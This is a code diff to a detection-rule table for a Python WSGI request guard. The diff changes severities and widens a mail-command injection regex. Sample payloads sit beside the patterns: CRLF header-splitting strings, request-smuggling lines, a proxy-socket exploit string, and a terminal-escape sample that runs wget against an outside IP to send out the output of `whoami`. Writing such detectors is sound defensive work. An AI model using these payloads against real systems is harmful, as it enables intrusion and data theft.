@@ -3,7 +3,7 @@
 # ruff: noqa: E501  (a table: one row a line reads better than the rows broken)
 from __future__ import annotations
 
-from guard_wsgi.detection.indicator import CERTAIN, MEDIUM, STRONG, WEAK, Family
+from guard_wsgi.detection.indicator import CERTAIN, DECISIVE, MEDIUM, STRONG, WEAK, Family
 
 _SPLIT = "CWE-113; RFC 9112 section 2.2"
 _SMUGGLE = "RFC 9112 section 11.2; PortSwigger research: request smuggling"
@@ -30,7 +30,7 @@ PROTOCOL = (
     _make("http_split", "header_name_any", r"(?:\r\n|\r|\n)[a-z][a-z0-9-]{2,30}\s*:\s?\S", _SPLIT, WEAK, examples=('a\rSet-Cookie:b=c',)),
     _make("http_split", "leading_field", r"^[\r\n]+[ \t]*(?:[a-z]+(?:-[a-z]+)+|host|cookie|location|referer|authorization)\s*:\s*\S", _SPLIT, CERTAIN, examples=('\nX-Injected: yes',)),
     _make("request_smuggling", "proxy_socket", r"\bunix:[^|\s]{4,}\|https?:", "CVE-2021-40438", STRONG, examples=('unix:AAAAAAAAA|http://coreruleset.org/',)),
-    _make("http_split", "boundary_type", r";\s*boundary\s*=\s*['\"]?(?:application|text|multipart|image)/", "RFC 2046, 5.1.1: a boundary that passes for a media type", CERTAIN, examples=('application/x-www-form-urlencoded;boundary="text/xml"',)),
+    _make("http_split", "boundary_type", r";\s*boundary\s*=\s*['\"]?(?:application|text|multipart|image)/", "RFC 2046, 5.1.1: a boundary that passes for a media type", DECISIVE, examples=('application/x-www-form-urlencoded;boundary="text/xml"',)),
     _make("http_split", "odd_line_break", r"\xe5\x98\x8a|\xe5\x98\x8d|%e5%98%8[ad]|\xc4\x8a|\xc4\x8d|%u000[ad]|\\r\\n\s*[\w-]+\s*:|%0[ad]\s*[\w-]+(?::|%3a)|%23%0[ad]|%250[ad]", "CVE-2013-0247: unicode line ends cut to CR LF", MEDIUM, examples=('%u000aX-A:1',)),
     _make("request_smuggling", "request_line", r"(?:^|[\r\n\s=/a-z0-9])(?:get|post|put|delete|head|options|trace|connect|patch|propfind|debug|track|move|copy)\s+(?:/|https?://|\*)\S*\s+http/\d", _SMUGGLE, CERTAIN, examples=('\nPOST / HTTP/1.1',)),
     _make("request_smuggling", "response_line", r"\bhttp/[0-3](?:\.\d)?\s+\d{3}\b", _SMUGGLE, examples=('en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK',)),
@@ -39,7 +39,7 @@ PROTOCOL = (
     _make("mail_injection", "mail_field", r"(?:[\r\n]|%0[ad]|\\n|\\r)[ \t\x0b\x0c]*(?:to|from|subject|date|sender|data)\s*[:<]", _MAIL, examples=('me@z.example\nSubject: Free',)),
     # A value for one line that continues with a header: after an address or a short word.
     _make("mail_injection", "mail_line", r"^[^\r\n]{0,60}[\r\n]+[ \t]*(?:b?cc|to|from|subject|reply-to|mime-version|content-type|x-[\w-]{2,24})\s*:", _MAIL, MEDIUM, examples=('\nX-Injected: yes',)),
-    _make("mail_injection", "mail_command", r"(?:[\r\n]|^)[ \t\x0b\x0c]*(?:rcpt\s+to|mail\s+from)\s*:|(?:^|[\r\n])[ \t\x0b\x0c]*[a-z]{0,3}\d{1,4}\s+(?:capability|fetch|select|logout|login|create|delete|rename|list|lsub|append|expunge|examine|noop|store|search)\b|[\r\n][ \t\x0b\x0c]*(?:(?:ehlo|helo|vrfy|expn|rset|retr|dele|noop)\b|(?:quit|data|stat)[ \t]*(?:[\r\n]|$))|[\r\n]\.[\r\n]|\"\s*[\r\n]+\s*v\d+\s", _MAIL, STRONG, examples=('\r\nDATA',)),
+    _make("mail_injection", "mail_command", r"(?:[\r\n]|^)[ \t\x0b\x0c]*(?:rcpt\s+to|mail\s+from)\s*:|[\r\n][ \t\x0b\x0c]*[a-z]{0,3}\d{1,4}\s+(?:capability|fetch|select|logout|login|create|delete|rename|list|lsub|append|expunge|examine|noop|store|search)\b|^[ \t\x0b\x0c]*[a-z]{0,3}\d{1,4}\s+(?:(?:capability|logout|expunge|noop)\s*(?:[\r\n]|$)|(?:fetch|store|search|select|examine|login|create|delete|rename|list|lsub|append)\s+[^\r\n]{1,80}[\r\n]+[ \t]*[a-z]{0,3}\d)|[\r\n][ \t\x0b\x0c]*(?:(?:ehlo|helo|vrfy|expn|rset|retr|dele|noop)\b|(?:quit|data|stat)[ \t]*(?:[\r\n]|$))|[\r\n]\.[\r\n]|\"\s*[\r\n]+\s*v\d+\s", _MAIL, STRONG, examples=('\r\nDATA',)),
     _make("log_injection", "log_line", r"[\r\n][ \t\x0b\x0c]*(?:\[?\d{4}-\d{2}-\d{2}|\[?(?:info|warn(?:ing)?|error|debug|critical|notice|alert)\]?\s*[:\[]|\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\s+-)", _LOG, WEAK, prefilter=(*_LINE_BEGINS,), examples=("a\n[ERROR] [1] x", "a\r\n127.0.0.1 - admin")),
     _make("log_injection", "terminal_escape", r"\x1b\[[\d;]*[a-z]|\x1b\]|\\x1b\[|\\e\[|\\033\[|\[(?:31|32|33|0)m", "CWE-150", MEDIUM, examples=('\\n\\033[2wget http://135.23.158.130/.testing/term_escape.txt?vuln=2?user=\\`whoami\\`',)),
     _make("encoding", "overlong", r"[\xc0\xc1][\x80-\xbf]|\xe0[\x80-\x9f][\x80-\xbf]|%c0%[8-9ab]\w|%c1%[\w]{2}|%e0%80%|%f0%80%80|%f8%80|%fc%80", _HIDE, STRONG, examples=('%c0%ae%c0%ae/',)),
